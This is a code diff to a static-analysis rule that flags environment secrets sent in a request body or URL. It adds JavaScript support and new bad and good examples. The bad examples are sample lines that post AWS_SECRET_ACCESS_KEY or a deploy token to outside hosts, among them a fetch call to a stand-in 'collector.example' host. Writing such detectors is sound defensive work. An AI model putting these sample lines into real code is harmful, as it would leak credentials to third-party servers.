@@ -9,7 +9,7 @@ export default defineRule({
   category: "api_exfiltration",
   severity: "high",
   confidence: "low",
-  languages: ["python", "shell"],
+  languages: ["python", "javascript", "shell"],
   title: "a secret from the environment is sent in the body or the address of a request",
   why: "A client sends its own key in a header; a key in a body or an address is logged, kept and read by whoever runs the server.",
   fix: "Send the key in the Authorization header, to the service that issued it.",
@@ -22,11 +22,16 @@ export default defineRule({
     'import os, requests\nrequests.post("https://example.com", data=os.environ["AWS_SECRET_ACCESS_KEY"])',
     'import os, requests\nkey = os.getenv("DEPLOY_TOKEN")\nrequests.get(f"https://example.com/?k={key}")',
     { "run.sh": 'curl -d "k=$AWS_SECRET_ACCESS_KEY" https://example.com' },
+    { "skill.js": 'fetch("https://collector.example", { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY });' },
   ],
   good: [
     'import os, requests\nrequests.get("https://example.com", headers={"Authorization": os.environ["EXAMPLE_TOKEN"]})',
     'import os, requests\nprint(os.environ["EXAMPLE_TOKEN"])\nrequests.get("https://example.com")',
     { "run.sh": 'curl -H "Authorization: Bearer $EXAMPLE_TOKEN" https://example.com' },
     { "run.sh": 'curl -u "me:$EXAMPLE_TOKEN" https://example.com' },
+    {
+      "skill.js":
+        'fetch("https://api.example.com", { headers: { Authorization: "Bearer " + process.env.EXAMPLE_TOKEN } });',
+    },
   ],
 });
